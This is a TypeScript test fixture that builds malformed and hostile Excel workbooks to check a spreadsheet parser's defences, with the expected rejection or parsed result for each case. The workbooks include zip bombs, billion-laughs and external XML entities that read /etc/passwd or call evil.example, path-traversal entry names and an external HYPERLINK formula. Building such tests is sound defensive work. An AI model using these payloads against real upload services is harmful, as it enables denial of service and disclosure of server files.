import { constants, deflateRawSync } from 'node:zlib';
import type { HostileFile } from './hostile-files';
import { partsOf, textRow, type WorkbookParts, workbookOf, workbookWithSheets } from './workbook';
import { type ZipPart, zipOf } from './zip';

type Outcome = HostileFile['comes'];

const good = '9843818700';
const list = textRow(1, 'number') + textRow(2, good);
const sheetPart = 'xl/worksheets/sheet1.xml';
const spaces = () => ' '.repeat(8_000_000);

const zip = (what: string, content: () => Buffer, comes: Outcome): HostileFile => ({
  what,
  name: 'list.xlsx',
  content,
  comes,
});
const book = (what: string, parts: () => WorkbookParts, comes: Outcome) => zip(what, () => workbookOf(parts()), comes);
/** A good workbook with one of its parts changed. */
const changed = (what: string, name: string, change: () => Partial<ZipPart>, comes: Outcome) =>
  zip(
    what,
    () => zipOf(partsOf({ sheet: list }).map((part) => (part.name === name ? { ...part, ...change() } : part))),
    comes,
  );
const extra = (what: string, name: string, comes: Outcome) =>
  book(what, () => ({ sheet: list, extra: [{ name, data: 'x' }] }), comes);

/** Deflates `start` and so many times `body` without holding them: flushed blocks can be set one after another. */
function repeated(start: string, body: string, times: number, end: string): Buffer {
  const flushed = { finishFlush: constants.Z_FULL_FLUSH };
  const block = deflateRawSync(body, flushed);
  return Buffer.concat([deflateRawSync(start, flushed), ...Array<Buffer>(times).fill(block), deflateRawSync(end)]);
}

/** No number that is called: what is measured is the reading, not what a store makes of a million numbers. */
const row = '<row><c><v>9</v></c></row>';
const manyRows = (times: number) =>
  repeated(
    '<worksheet><sheetData><row><c t="str"><v>number</v></c></row>',
    row.repeat(100_000),
    times,
    '</sheetData></worksheet>',
  );
const doctype = (inner: string) => `<!DOCTYPE worksheet [${inner}]>`;
const withDoctype = (inner: string, cell: string) => ({
  sheet: `${doctype(inner)}<worksheet><sheetData>${textRow(1, cell)}</sheetData></worksheet>`,
});
const laughs = '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">';
const relations = (target: string, mode = '') => ({
  sheet: list,
  relations: `<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="${target}"${mode}/></Relationships>`,
});
const officeDocument = (target: string) =>
  `<Relationships><Relationship Id="a" Type="x/officeDocument" Target="${target}"/></Relationships>`;

/** Workbooks: bombs, lies, entities, names and polyglots. */
export const hostileWorkbooks: readonly HostileFile[] = [
  book('unpacks to far more than its size', () => ({ sheet: list + spaces() }), 'too_large'),
  book('does so in its shared texts', () => ({ sheet: list, sharedStrings: `<sst>${spaces()}</sst>` }), 'too_large'),
  book('does so in its workbook', () => ({ sheet: list, workbook: `<workbook>${spaces()}</workbook>` }), 'too_large'),
  changed('does so in its relationships', '_rels/.rels', () => ({ data: `<a>${spaces()}</a>` }), 'too_large'),
  changed('has ten million rows', sheetPart, () => ({ packed: manyRows(100), statedSize: 4_000_000_000 }), 'no_list'),
  changed(
    'has ten million blank rows',
    sheetPart,
    () => ({
      packed: repeated('<worksheet><sheetData>', '<row/>'.repeat(100_000), 100, ''),
      statedSize: 4_000_000_000,
    }),
    'no_list',
  ),
  changed(
    'shares ten million texts',
    'xl/sharedStrings.xml',
    () => ({
      packed: repeated('<sst>', '<si><t>x</t></si>'.repeat(100_000), 100, '</sst>'),
      statedSize: 4_000_000_000,
    }),
    'too_large',
  ),
  changed('says that it is small and is not', sheetPart, () => ({ data: list + spaces(), statedSize: 100 }), 'no_list'),
  changed('says that it is four gigabytes', sheetPart, () => ({ statedSize: 4_000_000_000 }), 'no_list'),
  changed('is smaller inside than it says', sheetPart, () => ({ statedSize: 1_000_000 }), 'no_list'),
  changed('is larger inside than it says', sheetPart, () => ({ statedSize: 10 }), 'no_list'),
  changed('states a wrong checksum', sheetPart, () => ({ statedCrc: 1 }), 'no_list'),
  changed('has a part that does not inflate', sheetPart, () => ({ packed: Buffer.from('no deflate') }), 'no_list'),
  changed('is encrypted', sheetPart, () => ({ flags: 1 }), 'no_list'),
  book(
    'has a thousand parts too many',
    () => ({ sheet: list, extra: Array.from({ length: 1_000 }, (_, part) => ({ name: `x${part}`, data: '' })) }),
    'too_large',
  ),
  book(
    'has a bomb in a part that nobody asks for',
    () => ({ sheet: list, extra: [{ name: 'x', data: '', packed: manyRows(50), statedSize: 4_000_000_000 }] }),
    [good],
  ),
  zip(
    'hides its list behind fifty sheets of blank rows',
    () =>
      workbookWithSheets({
        ...Object.fromEntries(Array.from({ length: 50 }, (_, at) => [`S${at}`, '<row/>'.repeat(600_000)])),
        List: list,
      }),
    'too_large',
  ),
  book(
    'gives each of its cells a number format of its own',
    () => ({
      sheet: `${textRow(1, 'number', 'x')}${Array.from({ length: 20_000 }, (_, at) => `<row><c><v>9</v></c><c s="${at}"><v>5</v></c></row>`).join('')}`,
      styles:
        `<styleSheet><numFmts>${Array.from({ length: 20_000 }, (_, at) => `<numFmt numFmtId="${at + 200}" formatCode="${noise(240)}0&quot;${at}&quot;"/>`).join('')}</numFmts>` +
        `<cellXfs>${Array.from({ length: 20_000 }, (_, at) => `<xf numFmtId="${at + 200}"/>`).join('')}</cellXfs></styleSheet>`,
    }),
    'too_large',
  ),
  book(
    'has number formats that are none',
    () => ({
      sheet: `${textRow(1, 'number', 'x')}<row r="2"><c s="1"><v>${good}</v></c><c s="2"><v>5</v></c></row>`,
      styles:
        `<styleSheet><numFmts><numFmt numFmtId="200" formatCode="[[[;;;;\\"/><numFmt numFmtId="201" formatCode="${'#,'.repeat(5_000)}"/></numFmts>` +
        '<cellXfs><xf/><xf numFmtId="200"/><xf numFmtId="201"/></cellXfs></styleSheet>',
    }),
    [good],
  ),
  book('has the same sheet twice', () => ({ sheet: list, extra: [{ name: sheetPart, data: '<worksheet/>' }] }), [good]),
  book('has a cell of millions of characters', () => ({ sheet: textRow(1, noise(3_000_000)) }), 'too_large'),
  book('has a comment of millions of characters', () => ({ sheet: `<!--${noise(3_000_000)}-->${list}` }), 'too_large'),
  book(
    'has an attribute of millions of characters',
    () => ({ sheet: `<row r="${noise(3_000_000)}"/>${list}` }),
    'too_large',
  ),
  book(
    'has an element named by millions of characters',
    () => ({ sheet: `<a${noise(3_000_000)}/>${list}` }),
    'too_large',
  ),
  book(
    'has a cell of a megabyte',
    () => ({ sheet: textRow(1, 'number') + textRow(2, '9'.repeat(1_000_000)) + textRow(3, good) }),
    ['9'.repeat(32_767), good],
  ),
  book('names an outside entity', () => withDoctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'), 'no_list'),
  book(
    'names an entity of another host',
    () => withDoctype('<!ENTITY x SYSTEM "https://evil.example">', '&x;'),
    'no_list',
  ),
  book(
    'brings a document type of its own',
    () => withDoctype('<!ENTITY % x SYSTEM "https://evil.example">%x;', 'x'),
    'no_list',
  ),
  book('laughs a billion times', () => withDoctype(laughs, '&c;'), 'no_list'),
  book(
    'laughs in its shared texts',
    () => ({ sheet: list, sharedStrings: `${doctype(laughs)}<sst><si><t>&c;</t></si></sst>` }),
    'no_list',
  ),
  book(
    'repeats one long entity',
    () => withDoctype(`<!ENTITY x "${'x'.repeat(50_000)}">`, '&x;'.repeat(5_000)),
    'no_list',
  ),
  book('uses an entity that nobody declared', () => ({ sheet: textRow(1, '&x;') }), 'no_list'),
  book('nests elements without end', () => ({ sheet: '<row>'.repeat(5_000) }), 'no_list'),
  book('has XML that is cut', () => ({ sheet: '<row><c><v>1' }), 'no_list'),
  book('has a control character', () => ({ sheet: textRow(1, 'a\x01b') }), 'no_list'),
  changed('has UTF-16 inside', sheetPart, () => ({ data: Buffer.from('\ufeff<worksheet/>', 'utf16le') }), 'no_list'),
  extra('has a name that climbs out', '../../evil.sh', 'no_list'),
  extra('has an absolute name', '/etc/cron.d/evil', 'no_list'),
  extra('has a name that climbs out by backslashes', '..\\..\\evil.exe', 'no_list'),
  extra('has macros', 'xl/vbaProject.bin', [good]),
  book('points to a part outside', () => relations('../../../etc/passwd'), 'no_list'),
  book('points to the internet', () => relations('https://example.com/a.xml', ' TargetMode="External"'), 'no_list'),
  book(
    'has no visible sheet',
    () => ({
      sheet: list,
      workbook: '<workbook><sheets><sheet name="a" state="hidden" r:id="rId1"/></sheets></workbook>',
    }),
    'no_list',
  ),
  zip('is a zip in a zip', () => zipOf([{ name: 'list.xlsx', data: workbookOf({ sheet: list }) }]), 'no_list'),
  zip('is an empty zip', () => zipOf([]), 'no_list'),
  zip(
    'is a Word document',
    () =>
      zipOf([
        { name: '_rels/.rels', data: officeDocument('word/document.xml') },
        { name: 'word/document.xml', data: '<document/>' },
      ]),
    'no_list',
  ),
  zip('only begins like a zip', () => Buffer.from('PK\x03\x04 and then nothing that is one'), 'no_list'),
  zip('is cut in the middle', () => workbookOf({ sheet: list }).subarray(0, 700), 'no_list'),
  zip(
    'has a script after its end',
    () => Buffer.concat([workbookOf({ sheet: list }), Buffer.from('<script>')]),
    'no_list',
  ),
  book('heads a column __proto__', () => ({ sheet: textRow(1, 'number', '__proto__') + textRow(2, good, 'x') }), [
    good,
  ]),
  book(
    'has formulas, and what they came to',
    () => ({
      sheet: `${textRow(1, 'number')}<row r="2"><c t="str"><f>HYPERLINK("https://evil.example")</f><v>click</v></c></row>${textRow(3, good)}`,
    }),
    ['click', good],
  ),
  book(
    'has cells that are errors',
    () => ({ sheet: `${textRow(1, 'number')}<row r="2"><c t="e"><v>#REF!</v></c></row>${textRow(3, good)}` }),
    ['#REF!', good],
  ),
  book(
    'has figures that are no whole numbers',
    () => ({ sheet: `${textRow(1, 'number')}<row r="2"><c><v>98438187.5</v></c></row>${textRow(3, good)}` }),
    ['98438187.5', good],
  ),
];

/** Letters that do not pack well, so that no guard of ratios sees them first. */
function noise(length: number): string {
  let state = 1;
  let text = '';
  while (text.length < length) {
    state = (state * 48_271) % 2_147_483_647;
    text += state.toString(36);
  }
  return text.slice(0, length);
}
